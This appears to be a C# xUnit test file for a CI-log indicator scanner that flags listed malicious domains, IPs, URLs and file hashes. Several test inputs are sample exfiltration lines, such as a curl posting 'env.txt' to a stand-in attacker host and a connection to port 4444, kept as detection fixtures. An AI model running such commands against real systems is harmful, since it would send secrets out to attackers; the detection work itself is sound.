using PipeWatch.Intel;
using Xunit;

namespace PipeWatch.Tests.Intel;

public sealed class IndicatorScannerTests
{
    private static readonly IndicatorIndex Index = new(
        [
            new Indicator(IndicatorKind.Domain, "exfil.bad.example", "f"),
            new Indicator(IndicatorKind.Ip, "203.0.113.0/24", "f"),
            new Indicator(IndicatorKind.Ip, "2001:db8::66", "f"),
            new Indicator(IndicatorKind.Url, "https://paste.example/raw/ab12", "f"),
            new Indicator(IndicatorKind.Sha256, "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c", "f"),
            new Indicator(IndicatorKind.Md5, "7815696ecbf1c96e6894b779456d330e", "f"),
        ],
        DateTimeOffset.UnixEpoch);

    private static List<(string Value, string Observed, int Index)> Scan(string text)
    {
        var found = new List<IndicatorMatch>();
        IndicatorScanner.Scan(text, Index, found);
        return [.. found.Select(m => (m.Indicator.Value, m.Observed, m.Index))];
    }

    [Fact]
    public void A_curl_to_a_subdomain_of_a_listed_domain_is_found_at_its_url()
    {
        var text = "+ curl -sS -X POST -d @env.txt \"https://upload.Exfil.Bad.Example:8443/u?id=1\"";

        Assert.Equal([("exfil.bad.example", "https://upload.Exfil.Bad.Example:8443/u?id=1", text.IndexOf("https", StringComparison.Ordinal))], Scan(text));
    }

    [Fact]
    public void Hosts_addresses_with_ports_urls_and_hashes_are_each_found()
    {
        Assert.Equal([("exfil.bad.example", "a.exfil.bad.example", 14)], Scan("nslookup      a.exfil.bad.example."));
        Assert.Equal([("203.0.113.0/24", "203.0.113.9", 11)], Scan("connect to 203.0.113.9:4444 ok"));
        // Brackets cut tokens, so an IPv6 URL is found by its address.
        Assert.Equal([("2001:db8::66", "2001:db8::66", 12)], Scan("GET http://[2001:db8::66]/x"));
        Assert.Equal([("https://paste.example/raw/ab12", "https://paste.example/raw/ab12", 0)], Scan("https://paste.example/raw/ab12"));
        Assert.Equal([("ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c", "EF537F25C895BFA782526529A9B63D97AA631564D5D789C2B765448C8635FB6C", 14)],
            Scan("digest sha256:EF537F25C895BFA782526529A9B63D97AA631564D5D789C2B765448C8635FB6C"));
        Assert.Equal([("7815696ecbf1c96e6894b779456d330e", "7815696ecbf1c96e6894b779456d330e", 0)], Scan("7815696ecbf1c96e6894b779456d330e  tool.tar.gz"));
        Assert.Equal([("exfil.bad.example", "exfil.bad.example", 0)], Scan("x@exfil.bad.example"));
    }

    [Fact]
    public void A_token_with_a_character_no_host_name_holds_is_no_host_but_underscores_and_hyphens_are_host_characters()
    {
        // The parent domain is listed: only the host-name character check keeps these from matching.
        Assert.Empty(Scan("nslookup \u00e9.exfil.bad.example"));
        Assert.Empty(Scan("nslookup a\u0430.exfil.bad.example"));
        Assert.Equal([("exfil.bad.example", "x_y-1.exfil.bad.example", 9)], Scan("nslookup x_Y-1.exfil.bad.example"));
    }

    [Fact]
    public void Ordinary_build_output_matches_nothing()
    {
        var log = """
            Run actions/checkout@v4
            Syncing repository: acme/payments-api
            git version 2.43.0
            Fetching https://github.com/acme/payments-api 3f2c1e0d9b8a7c6d5e4f3a2b1c0d9e8f7a6b5c4d
            npm ci --registry=https://registry.npmjs.org/
            added 1024 packages in 12.3s; see 10.0.0.1 and 203.0.114.5:80 and exfil.bad.example.org and notexfil.bad.example
            sha256:0000000000000000000000000000000000000000000000000000000000000000 layer pushed
            """;

        Assert.Empty(Scan(log));
    }

    [Fact]
    public void A_hash_is_found_wherever_it_starts_and_only_as_a_whole_run()
    {
        const string Sha = "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c";
        // The hash pass probes one character in 32: every alignment of the run must still be found.
        for (var pad = 0; pad < 70; pad++)
        {
            var text = new string('.', pad) + "=" + Sha + "\n";
            Assert.Equal([(Sha, Sha, pad + 1)], Scan(text));
        }

        Assert.Equal([("7815696ecbf1c96e6894b779456d330e", "7815696ecbf1c96e6894b779456d330e", 4)], Scan("md5=7815696ecbf1c96e6894b779456d330e"));
        Assert.Empty(Scan("x" + Sha));
        Assert.Empty(Scan(Sha + "0"));
        Assert.Empty(Scan("0" + Sha));
        Assert.Empty(Scan("7815696ecbf1c96e6894b779456d330eg"));
    }

    [Fact]
    public void The_network_scope_skips_hashes_and_the_hash_scope_skips_hosts()
    {
        const string Text = "curl https://a.exfil.bad.example/x && echo 7815696ecbf1c96e6894b779456d330e";
        var network = new List<IndicatorMatch>();
        var hashes = new List<IndicatorMatch>();

        IndicatorScanner.Scan(Text, Index, network, IndicatorScope.Network);
        IndicatorScanner.Scan(Text, Index, hashes, IndicatorScope.Hashes);

        Assert.Equal(["exfil.bad.example"], network.Select(m => m.Indicator.Value));
        Assert.Equal(["7815696ecbf1c96e6894b779456d330e"], hashes.Select(m => m.Indicator.Value));
        Assert.Equal([5, 43], Scan(Text).Select(m => m.Index));
    }

    [Fact]
    public void A_replaced_index_is_the_one_in_force_for_every_holder()
    {
        var held = new IndicatorIndex([new Indicator(IndicatorKind.Domain, "old.example", "f")], DateTimeOffset.UnixEpoch);

        held.Replace(new IndicatorIndex([new Indicator(IndicatorKind.Domain, "new.example", "f")], DateTimeOffset.UnixEpoch));

        Assert.Null(held.Current.Domain("old.example"));
        Assert.Equal("new.example", held.Current.Domain("x.new.example")?.Value);
    }

    [Theory]
    [InlineData("1.2.3.4", 0x01020304u)]
    [InlineData("255.255.255.255", 0xFFFFFFFFu)]
    [InlineData("1.2.3", null)]
    [InlineData("1.2.3.4.5", null)]
    [InlineData("1.2.3.256", null)]
    [InlineData("1..3.4", null)]
    public void Dotted_quads_parse_exactly(string text, uint? expected)
    {
        Assert.Equal(expected, IndicatorScanner.Ipv4(text));
    }
}
